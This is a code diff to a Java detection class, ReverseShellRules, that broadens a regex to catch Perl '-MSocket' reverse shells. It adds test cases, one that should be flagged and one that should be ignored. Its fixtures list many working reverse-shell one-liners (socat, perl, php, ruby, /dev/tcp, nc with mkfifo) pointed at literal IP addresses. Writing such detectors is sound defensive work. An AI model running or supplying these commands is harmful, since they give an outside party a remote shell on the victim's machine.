@@ -122,7 +122,7 @@ final class ReverseShellRules {
                   "\\bsocket\\.socket\\([^\\x00]*\\.connect(?:_ex)?\\([^\\x00]*" + CALLS_SHELL, 600)
               .finds("\\bsocket\\.create_connection\\([^\\x00]*" + CALLS_SHELL, 600)
               .finds(
-                  "(?i:\\buse\\s+(?:io::)?socket\\b"
+                  "(?i:(?:\\buse\\s+|\\s-M)(?:io::)?socket\\b"
                       + LINE
                       + "(?:exec|system)\\b"
                       + LINE
@@ -185,6 +185,7 @@ final class ReverseShellRules {
                   "socat TCP:100.175.180.236:5555 EXEC:'bash -li',pty,stderr",
                   "perl -e 'use Socket;$i=\"121.32.163.47\";socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
                   "php -r '$s=fsockopen(\"159.52.123.234\",8081);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
+                  "perl -MSocket -e 'socket(S,PF_INET,1,6);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
                   "ruby -rsocket -e 'f=TCPSocket.open(\"1.2.3.4\",4).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
                   "0<&196;exec 196<>/dev/tcp/102.153.191.165/4242; sh <&196 >&196 2>&196",
                   "exec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read l; do $l 2>&5 >&5; done",
@@ -202,6 +203,7 @@ final class ReverseShellRules {
                   "mknod /tmp/p p && telnet 1.2.3.4 80 0</tmp/p | /bin/bash 1>/tmp/p",
                   "mkfifo /tmp/q; nc 1.2.3.4 9001 0</tmp/q | /bin/sh >/tmp/q 2>&1")
               .ignores(
+                  "perl -MSocket -e 'print inet_ntoa(INADDR_LOOPBACK)'",
                   "const s = new net.Socket(); s.pipe(t).pipe(s); conn.exec('uptime', f)",
                   "/dev/tcp/host/port",
                   "for d in tcp udp; do test -e /dev/$d && echo $d; done",
